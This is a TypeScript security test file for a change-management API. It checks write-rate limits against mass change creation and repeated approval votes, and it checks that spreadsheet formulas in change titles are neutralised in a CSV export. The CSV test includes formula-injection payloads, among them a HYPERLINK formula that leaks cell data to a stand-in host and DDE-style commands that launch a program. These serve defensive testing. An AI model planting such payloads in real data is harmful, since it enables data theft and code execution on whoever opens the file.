import type { INestApplicationContext } from '@nestjs/common';
import type { NestExpressApplication } from '@nestjs/platform-express';
import { parseCsv } from '@steward/domain';
import { DEMO_USERS } from '@steward/identity';
import { ChangeApprovalEntity, ChangeRequestEntity, seedDemoData } from '@steward/persistence';
import request from 'supertest';
import type { App } from 'supertest/types';
import { changeRequestBody } from '../support/fixtures';
import { createTestDatabase, eventually, startWorker, tokenFor, uniqueTaskQueue, type TestDatabase } from '../support/harness';
import { startApiWith, targetPlan } from './support/abuse-stack';
import { startCountingTarget, type CountingTarget } from './support/counting-target';

describe('API6:2023 Unrestricted Access to Sensitive Business Flows', () => {
  let database: TestDatabase;
  let worker: INestApplicationContext;
  let api: NestExpressApplication;
  let http: App;
  let target: CountingTarget;
  const taskQueue = uniqueTaskQueue('api6');
  const auth = async (part: keyof typeof DEMO_USERS) => ({ Authorization: `Bearer ${await tokenFor(DEMO_USERS[part])}` });

  beforeAll(async () => {
    database = await createTestDatabase('sec_api6');
    await seedDemoData(database.db);
    target = await startCountingTarget();
    worker = await startWorker(database.url, taskQueue, { executorAllowedTargets: [target.hostPort] });
    api = await startApiWith(database.url, taskQueue, { abuse: { authFailuresPerMinute: 100, writesPerMinute: 4, writesPerAddressPerMinute: 1000, eventStreamsPerPrincipal: 5 } });
    http = api.getHttpServer() as App;
  });

  afterAll(async () => {
    await api?.close();
    await worker?.close();
    await target?.close();
    await database?.drop();
  });

  it('mass creation of changes by one requester stops at the write limit: 429, nothing more created, nothing executed', async () => {
    const headers = await auth('requester');
    const before = await database.db.getRepository(ChangeRequestEntity).count();
    const statuses: number[] = [];
    for (let i = 0; i < 8; i++) {
      const response = await request(http).post('/api/changes').set(headers).send(changeRequestBody({ title: `bulk ${i}`, plan: targetPlan(target) }));
      statuses.push(response.status);
      if (response.status === 429) expect(response.headers['retry-after']).toMatch(/^\d+$/);
    }
    expect(statuses.slice(0, 4)).toEqual([201, 201, 201, 201]);
    expect(statuses.slice(4)).toEqual([429, 429, 429, 429]);
    expect(await database.db.getRepository(ChangeRequestEntity).count()).toBe(before + 4);
    expect(target.count()).toBe(0);
  });

  it('a decision storm by one CAB member is cut off at the write limit; one vote is recorded, and nothing executes', async () => {
    // Another requester (the first one spent their writes above).
    const requester = { Authorization: `Bearer ${await tokenFor({ id: 'rita', name: 'Rita', roles: ['requester'], groups: ['payments-team'] })}` };
    const id = (await request(http).post('/api/changes').set(requester).send(changeRequestBody({ plan: targetPlan(target) })).expect(201)).body.id as string;
    const change = await eventually(
      async () => (await request(http).get(`/api/changes/${id}`).set(await auth('auditor')).expect(200)).body,
      (c) => c.state === 'awaiting_approval',
    );
    const headers = await auth('cabMember');
    const statuses: number[] = [];
    for (let i = 0; i < 8; i++) {
      statuses.push((await request(http).post(`/api/changes/${id}/decisions`).set(headers).send({ decision: 'approve', comment: `vote ${i}`, planHash: change.planHash })).status);
    }
    expect(statuses[0]).toBe(200);
    expect(statuses.slice(1, 4).every((s) => s === 409)).toBe(true);
    expect(statuses.slice(4)).toEqual([429, 429, 429, 429]);
    expect(await database.db.getRepository(ChangeApprovalEntity).countBy({ changeId: id })).toBe(1);
    expect(target.count()).toBe(0);
  });

  it('a change title written as a spreadsheet formula reaches the change register CSV as text, not as a formula', async () => {
    const titles = ['=HYPERLINK("http://evil.example/?leak="&A1,"Open")', '+SUM(1+1)*cmd|" /C calc"!A0', '-2+3+cmd|" /C calc"!A0', '@SUM(A1:A9)'];
    const requester = { Authorization: `Bearer ${await tokenFor({ id: 'sam', name: 'Sam', roles: ['requester'], groups: ['payments-team'] })}` };
    const ids: string[] = [];
    for (const title of titles) {
      ids.push((await request(http).post('/api/changes').set(requester).send(changeRequestBody({ title, plan: targetPlan(target) })).expect(201)).body.id as string);
    }
    // The API keeps the title as written: neutralising is the CSV writer's job, not a change to the record.
    expect((await request(http).get(`/api/changes/${ids[0]}`).set(await auth('auditor')).expect(200)).body.title).toBe(titles[0]);

    const csv = await request(http).get('/api/reports/change-register?format=csv').set(await auth('auditor')).expect(200);
    expect(csv.headers['content-type']).toMatch(/^text\/csv/);
    const records = parseCsv(csv.text);
    const header = records[0];
    expect(header).toEqual(['id', 'title', 'type', 'state', 'risk', 'requester', 'submitted_at', 'completed_at', 'closure_code']);
    const titleOf = new Map(records.slice(1).map((r) => [r[0], r[1]]));
    ids.forEach((id, i) => expect(titleOf.get(id)).toBe(`'${titles[i]}`));
    // No cell of the file starts with a formula character.
    for (const record of records) for (const cell of record) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(target.count()).toBe(0);
  });
});
